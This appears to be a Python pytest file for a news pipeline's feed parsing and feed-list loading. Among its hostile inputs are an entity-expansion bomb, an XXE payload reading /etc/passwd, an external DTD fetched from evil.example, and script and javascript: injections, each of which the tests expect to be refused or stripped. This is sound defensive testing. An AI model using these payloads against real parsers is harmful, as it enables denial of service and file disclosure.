"""Feed lists (TOML / YAML / OPML) and feed parsing (RSS 2.0, Atom, RDF, JSON Feed, broken and hostile input)."""

from datetime import datetime
from pathlib import Path

import pytest

from pipeline.feeds import (FeedConfig, FeedError, FeedListError, append_feeds_toml, import_opml, load_feeds,
                            parse_feed)

ROOT = Path(__file__).resolve().parents[2]
FEED_URL = "https://news.example.com/world/feed.xml"

RSS2 = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">
 <channel>
  <title>Example World</title>
  <link>https://news.example.com/</link>
  <item>
   <title>Ceasefire talks resume</title>
   <link>https://news.example.com/2025/06/10/talks</link>
   <guid isPermaLink="false">urn:example:1001</guid>
   <pubDate>Tue, 10 Jun 2025 10:00:00 +0200</pubDate>
   <dc:creator>Jane Doe</dc:creator>
   <description>Delegations met in Geneva.</description>
  </item>
  <item>
   <title>Second story</title>
   <link>https://news.example.com/2025/06/10/second</link>
   <pubDate>Tue, 10 Jun 2025 11:30:00 GMT</pubDate>
   <author>desk@example.com (World Desk)</author>
  </item>
 </channel>
</rss>"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://atom.example.org/blog/">
  <title type="text">Atom Example</title>
  <id>urn:uuid:feed</id>
  <updated>2025-06-11T09:00:00Z</updated>
  <entry>
    <title type="html">Sanctions &lt;em&gt;tightened&lt;/em&gt;</title>
    <link rel="alternate" href="posts/sanctions"/>
    <id>tag:atom.example.org,2025:1</id>
    <updated>2025-06-11T09:00:00+03:00</updated>
    <author><name>Ivan Petrenko</name></author>
    <summary type="html">&lt;p&gt;New measures &lt;b&gt;announced&lt;/b&gt;.&lt;/p&gt;</summary>
  </entry>
  <entry>
    <title>Only updated</title>
    <link href="/root-relative"/>
    <id>tag:atom.example.org,2025:2</id>
    <updated>2025-06-12T00:00:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Full <i>content</i> here.</p></div></content>
  </entry>
</feed>"""

RDF = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rdf.example.net/">
    <title>RDF Example</title>
    <link>https://rdf.example.net/</link>
    <items><rdf:Seq><rdf:li resource="https://rdf.example.net/a"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://rdf.example.net/a">
    <title>RSS 1.0 item</title>
    <link>https://rdf.example.net/a</link>
    <dc:date>2025-06-09T08:15:00Z</dc:date>
    <description>An RDF description.</description>
  </item>
</rdf:RDF>"""


# -- parsing -------------------------------------------------------------------------------------

def test_rss2():
    feed = parse_feed(RSS2, FEED_URL, "application/rss+xml")
    assert feed.title == "Example World" and not feed.bozo and feed.bozo_reason is None
    first, second = feed.entries
    assert first.entry_id == "urn:example:1001"
    assert first.url == "https://news.example.com/2025/06/10/talks"
    assert first.title == "Ceasefire talks resume"
    assert first.published_at == datetime(2025, 6, 10, 8, 0)  # naive UTC
    assert first.author == "Jane Doe" and first.summary == "Delegations met in Geneva."
    assert second.entry_id == second.url == "https://news.example.com/2025/06/10/second"  # no guid: the link
    assert second.author == "World Desk" and second.summary is None


def test_atom_with_xml_base_and_html_fields():
    feed = parse_feed(ATOM, "https://atom.example.org/feed", "application/atom+xml")
    assert feed.title == "Atom Example" and not feed.bozo
    first, second = feed.entries
    assert first.url == "https://atom.example.org/blog/posts/sanctions"   # resolved against xml:base
    assert first.title == "Sanctions tightened"
    assert first.summary == "New measures announced."
    assert first.published_at == datetime(2025, 6, 11, 6, 0)               # updated, in UTC
    assert first.author == "Ivan Petrenko" and first.entry_id == "tag:atom.example.org,2025:1"
    assert second.url == "https://atom.example.org/root-relative"
    assert second.summary == "Full content here."                           # content when no summary


def test_rss1_rdf():
    feed = parse_feed(RDF, "https://rdf.example.net/index.rdf", "application/rdf+xml")
    assert feed.title == "RDF Example"
    (entry,) = feed.entries
    assert entry.url == "https://rdf.example.net/a" and entry.title == "RSS 1.0 item"
    assert entry.published_at == datetime(2025, 6, 9, 8, 15)
    assert entry.summary == "An RDF description."


def test_relative_links_resolved_against_feed_url():
    rss = b"""<rss version="2.0"><channel><title>R</title>
      <item><title>a</title><link>/news/1</link></item>
      <item><title>b</title><link>story-2.html</link></item>
      <item><title>c</title><link>javascript:alert(1)</link><guid isPermaLink="false">c-1</guid></item>
    </channel></rss>"""
    entries = parse_feed(rss, FEED_URL).entries
    assert [e.url for e in entries] == ["https://news.example.com/news/1",
                                        "https://news.example.com/world/story-2.html", None]
    assert entries[2].entry_id == "c-1"


def test_html_entities_in_titles_and_summaries():
    rss = b"""<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Tom &amp;amp; Jerry&#8217;s</title>
      <item><title>Kyiv &amp;amp; Lviv: &#8220;calm&#8221; &lt;b&gt;night&lt;/b&gt;</title><link>https://e.com/1</link>
      <description><![CDATA[<p>Strikes &amp; sirens&nbsp;&mdash; <a href="/x">more</a></p><script>evil()</script><p>Second&#160;para</p>]]></description>
      </item></channel></rss>"""
    feed = parse_feed(rss, FEED_URL)
    assert feed.title == "Tom & Jerry\u2019s"
    (entry,) = feed.entries
    assert entry.title == "Kyiv & Lviv: \u201ccalm\u201d night"
    assert entry.summary == "Strikes & sirens \u2014 more\nSecond para"


def test_malformed_feed_keeps_entries_and_says_why():
    broken = b"""<rss version="2.0"><channel><title>Broken</title>
      <item><title>First &nbsp; story</title><link>https://e.com/1</link></item>
      <item><title>Second</title><link>https://e.com/2</link></item>"""  # undefined entity, never closed
    feed = parse_feed(broken, FEED_URL)
    assert feed.bozo and feed.bozo_reason
    assert [e.url for e in feed.entries] == ["https://e.com/1", "https://e.com/2"]
    assert feed.entries[0].title == "First story"


def test_feed_served_as_text_html_is_not_bozo():
    assert not parse_feed(RSS2, FEED_URL, "text/html; charset=utf-8").bozo


def test_charset_from_header():
    rss = '<rss version="2.0"><channel><title>Caf\u00e9</title><item><title>\u00fcber</title><link>https://e.com/1</link></item></channel></rss>'
    feed = parse_feed(rss.encode("latin-1"), FEED_URL, "application/rss+xml; charset=iso-8859-1")
    assert feed.title == "Caf\u00e9" and feed.entries[0].title == "\u00fcber"
    feed = parse_feed(rss.encode("latin-1"), FEED_URL, "application/rss+xml", charset="iso-8859-1")
    assert feed.entries[0].title == "\u00fcber"


def test_json_feed():
    doc = b"""{"version": "https://jsonfeed.org/version/1.1", "title": "JSON Example",
      "items": [{"id": "1", "url": "/posts/1", "title": "Hello &amp; welcome", "content_html": "<p>Body</p>",
                 "date_published": "2025-06-10T12:00:00+02:00", "authors": [{"name": "A. Writer"}]}]}"""
    feed = parse_feed(doc, "https://j.example.com/feed.json", "application/feed+json")
    assert feed.title == "JSON Example"
    (entry,) = feed.entries
    assert entry.url == "https://j.example.com/posts/1" and entry.summary == "Body"
    assert entry.published_at == datetime(2025, 6, 10, 10, 0) and entry.author == "A. Writer"


@pytest.mark.parametrize("content", [
    b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Welcome</p></body></html>",
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR garbage",
    b"just some words, no markup",
    b"",
    b"   \n",
    b'{"not": "a feed"}',
])
def test_not_a_feed(content):
    with pytest.raises(FeedError) as info:
        parse_feed(content, FEED_URL)
    assert info.value.item == FEED_URL and info.value.stage == "feed"


def test_html_page_error_says_so():
    with pytest.raises(FeedError, match="HTML page"):
        parse_feed(b"<html><body><p>hello</p></body></html>", FEED_URL, "text/html")


@pytest.mark.parametrize("content", [
    b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">
        <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
        <rss version="2.0"><channel><title>&lol3;</title><item><title>x</title></item></channel></rss>""",
    b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
        <rss version="2.0"><channel><title>&xxe;</title><item><title>x</title></item></channel></rss>""",
    b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><rss/>""",
    # malformed as well: still refused, by the prolog check
    b"""garbage<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "b">]><rss version="2.0"><channel><item><title>&a;""",
])
def test_entity_declarations_refused(content):
    with pytest.raises(FeedError, match="entities"):
        parse_feed(content, FEED_URL)


def test_external_dtd_without_entities_is_fine():
    rss091 = b"""<?xml version="1.0"?>
    <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
    <rss version="0.91"><channel><title>Old</title><link>https://old.example/</link><description>d</description>
    <item><title>Old item</title><link>https://old.example/1</link></item></channel></rss>"""
    assert [e.title for e in parse_feed(rss091, FEED_URL).entries] == ["Old item"]


def test_entry_without_id_or_link_gets_a_stable_id():
    rss = b"""<rss version="2.0"><channel><title>t</title><item><title>No link</title>
      <description>Only text.</description></item></channel></rss>"""
    first = parse_feed(rss, FEED_URL).entries[0]
    assert first.url is None and first.entry_id.startswith("sha256:")
    assert parse_feed(rss, FEED_URL).entries[0].entry_id == first.entry_id


# -- feed lists ---------------------------------------------------------------------------------

OPML = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>My feeds</title></head>
  <body>
    <outline text="News" title="News">
      <outline type="rss" text="BBC World" title="BBC World" xmlUrl="https://feeds.bbci.co.uk/news/world/rss.xml"
               htmlUrl="https://www.bbc.co.uk/news/world"/>
      <outline text="Europe">
        <outline type="rss" text="Kyiv Independent" xmlUrl="https://kyivindependent.com/feed/"/>
      </outline>
    </outline>
    <outline type="rss" text="Top level" xmlurl="https://top.example.com/rss"/>
    <outline type="rss" text="BBC again" xmlUrl="https://feeds.bbci.co.uk/news/world/rss.xml"/>
  </body>
</opml>"""


def test_import_opml_nested_outlines():
    feeds = import_opml(OPML)
    assert feeds == [
        FeedConfig("BBC World", "https://feeds.bbci.co.uk/news/world/rss.xml"),
        FeedConfig("Kyiv Independent", "https://kyivindependent.com/feed/"),
        FeedConfig("Top level", "https://top.example.com/rss"),
    ]


def test_import_opml_refuses_entities_and_garbage():
    with pytest.raises(FeedListError, match="entities"):
        import_opml(b'<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x "y">]><opml><body/></opml>')
    with pytest.raises(FeedListError, match="not valid"):
        import_opml(b"<opml><body>")


def test_load_feeds_toml(tmp_path):
    path = tmp_path / "feeds.toml"
    path.write_text('[[feed]]\nname = "A"\nurl = "https://a.example/rss"\noutlet = "A News"\ninterval = 10\n\n'
                    '[[feed]]\nname = "B"\nurl = "https://b.example/atom"\n')
    assert load_feeds(path) == [FeedConfig("A", "https://a.example/rss", "A News", 10),
                                FeedConfig("B", "https://b.example/atom", None, 30)]


def test_load_feeds_toml_bad_entries_are_named(tmp_path):
    path = tmp_path / "feeds.toml"
    path.write_text('[[feed]]\nname = "Good"\nurl = "https://good.example/rss"\n\n'
                    '[[feed]]\nname = "Ftp"\nurl = "ftp://bad.example/rss"\n\n'
                    '[[feed]]\nurl = "https://noname.example/rss"\n\n'
                    '[[feed]]\nname = "Typo"\nurl = "https://t.example/rss"\nintervall = 5\n\n'
                    '[[feed]]\nname = "Slow"\nurl = "https://s.example/rss"\ninterval = 0\n')
    with pytest.raises(FeedListError) as info:
        load_feeds(path)
    message = str(info.value)
    assert str(path) in message and "4 bad entries" in message
    assert "feed #2 ('Ftp')" in message and "not an absolute http(s) URL" in message
    assert "feed #3: missing 'name'" in message
    assert "feed #4 ('Typo')" in message and "'intervall'" in message
    assert "feed #5 ('Slow')" in message and "interval" in message
    assert "Good" not in message


def test_load_feeds_errors(tmp_path):
    from pipeline.errors import UserError

    assert issubclass(FeedListError, UserError)  # the CLI prints it as one line
    with pytest.raises(FeedListError, match="not found"):
        load_feeds(tmp_path / "missing.toml")
    bad = tmp_path / "feeds.toml"
    bad.write_text("[[feed]\nname = ")
    with pytest.raises(FeedListError, match="not valid TOML"):
        load_feeds(bad)
    empty = tmp_path / "empty.toml"
    empty.write_text("# nothing yet\n")
    with pytest.raises(FeedListError, match="no feeds"):
        load_feeds(empty)
    dup = tmp_path / "dup.toml"
    dup.write_text('[[feed]]\nname = "A"\nurl = "https://a.example/rss"\n[[feed]]\nname = "A2"\nurl = "https://a.example/rss"\n')
    with pytest.raises(FeedListError, match="already listed as feed #1"):
        load_feeds(dup)


def test_load_feeds_yaml_and_opml(tmp_path):
    yaml_path = tmp_path / "feeds.yaml"
    yaml_path.write_text("feed:\n  - name: A\n    url: https://a.example/rss\n    interval: 15\n")
    assert load_feeds(yaml_path) == [FeedConfig("A", "https://a.example/rss", None, 15)]
    opml_path = tmp_path / "feeds.opml"
    opml_path.write_bytes(OPML)
    assert len(load_feeds(opml_path)) == 3


def test_example_file_loads():
    feeds = load_feeds(ROOT / "feeds.example.toml")
    assert feeds and all(f.url.startswith("https://") and f.name for f in feeds)


def test_append_feeds_toml(tmp_path):
    path = tmp_path / "feeds.toml"
    added = append_feeds_toml(path, [FeedConfig("A", "https://a.example/rss", "A \"News\"", 10)])
    assert added == [FeedConfig("A", "https://a.example/rss", 'A "News"', 10)]
    path.write_text("# my comment\n" + path.read_text())
    added = append_feeds_toml(path, import_opml(OPML) + [FeedConfig("A again", "https://A.example/rss")])
    assert [f.name for f in added] == ["BBC World", "Kyiv Independent", "Top level"]
    assert path.read_text().startswith("# my comment\n")
    assert [f.name for f in load_feeds(path)] == ["A", "BBC World", "Kyiv Independent", "Top level"]
    assert append_feeds_toml(path, import_opml(OPML)) == []
